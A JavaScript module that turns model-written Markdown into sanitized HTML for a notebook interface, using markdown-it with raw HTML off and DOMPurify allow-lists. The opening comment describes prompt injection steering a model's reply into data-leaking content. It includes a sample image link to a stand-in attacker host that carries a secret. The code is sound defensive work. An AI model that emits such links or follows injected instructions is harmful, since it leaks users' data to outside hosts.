// Markdown -> sanitized HTML for text a model wrote. Model output is untrusted: a reply can be
// steered (by a prompt, a document, a web page it was asked to summarise) into containing HTML or
// links crafted to run script or leak data, so nothing in it may execute or load anything.
//
// Three layers: markdown-it with raw HTML off (tags in the text are shown as text), images drawn as
// links the user may open (![](https://attacker/?q=secret) would fetch a URL the moment it is drawn),
// and DOMPurify over the result with an allow-list of tags, attributes and URL schemes. Replies in
// cells get the same treatment in Python (lmnb/markup.py).
import MarkdownIt from "markdown-it";
import DOMPurify from "dompurify";
import hljs from "highlight.js/lib/core";
import bash from "highlight.js/lib/languages/bash";
import c from "highlight.js/lib/languages/c";
import cpp from "highlight.js/lib/languages/cpp";
import css from "highlight.js/lib/languages/css";
import go from "highlight.js/lib/languages/go";
import java from "highlight.js/lib/languages/java";
import javascript from "highlight.js/lib/languages/javascript";
import json from "highlight.js/lib/languages/json";
import julia from "highlight.js/lib/languages/julia";
import markdown from "highlight.js/lib/languages/markdown";
import python from "highlight.js/lib/languages/python";
import r from "highlight.js/lib/languages/r";
import rust from "highlight.js/lib/languages/rust";
import sql from "highlight.js/lib/languages/sql";
import typescript from "highlight.js/lib/languages/typescript";
import xml from "highlight.js/lib/languages/xml";
import yaml from "highlight.js/lib/languages/yaml";

const LANGUAGES = { bash, c, cpp, css, go, java, javascript, json, julia, markdown, python, r, rust, sql, typescript, xml, yaml };
for (const [name, lang] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, lang);

const md = new MarkdownIt({
  html: false,
  linkify: true,
  breaks: false,
  highlight(code, lang) {
    const name = (lang || "").trim().toLowerCase();
    if (!name || !hljs.getLanguage(name)) return ""; // markdown-it escapes it
    try {
      const html = hljs.highlight(code, { language: name, ignoreIllegals: true }).value;
      return `<pre class="hljs"><code class="language-${md.utils.escapeHtml(name)}">${html}</code></pre>`;
    } catch {
      return "";
    }
  },
});
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = md.utils.escapeHtml(token.attrGet("src") || "");
  const alt = md.utils.escapeHtml(self.renderInlineAsText(token.children || [], options, env) || token.attrGet("src") || "");
  return `<a href="${src}" title="image: ${src}">\u{1f5bc} ${alt}</a>`;
};

const ALLOWED_TAGS = [
  "a", "p", "br", "hr", "em", "strong", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
  "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div",
];
const PURIFY = {
  ALLOWED_TAGS,
  ALLOWED_ATTR: ["href", "title", "class", "start", "style"],
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#)/i,
  ALLOW_DATA_ATTR: false,
};

let hooked = false;
function purifier() {
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook("uponSanitizeAttribute", (node, data) => {
      // markdown-it writes `style="text-align:…"` on table cells; nothing else may carry a style
      if (data.attrName === "style" && !/^text-align:(left|right|center)$/.test(data.attrValue)) data.keepAttr = false;
      // only the highlighter's classes: a reply must not borrow JupyterLab's (overlays, dialogs)
      if (data.attrName === "class") {
        data.attrValue = data.attrValue.split(/\s+/).filter((c) => /^(hljs[\w-]*|language-[\w+#.-]+|\w+_)$/.test(c)).join(" ");
        if (!data.attrValue) data.keepAttr = false;
      }
    });
    DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer nofollow");
      }
    });
  }
  return DOMPurify;
}

/** Markdown text -> an HTML string that is safe to assign to innerHTML. */
export function renderMarkdown(text) {
  return purifier().sanitize(md.render(text || ""), PURIFY);
}
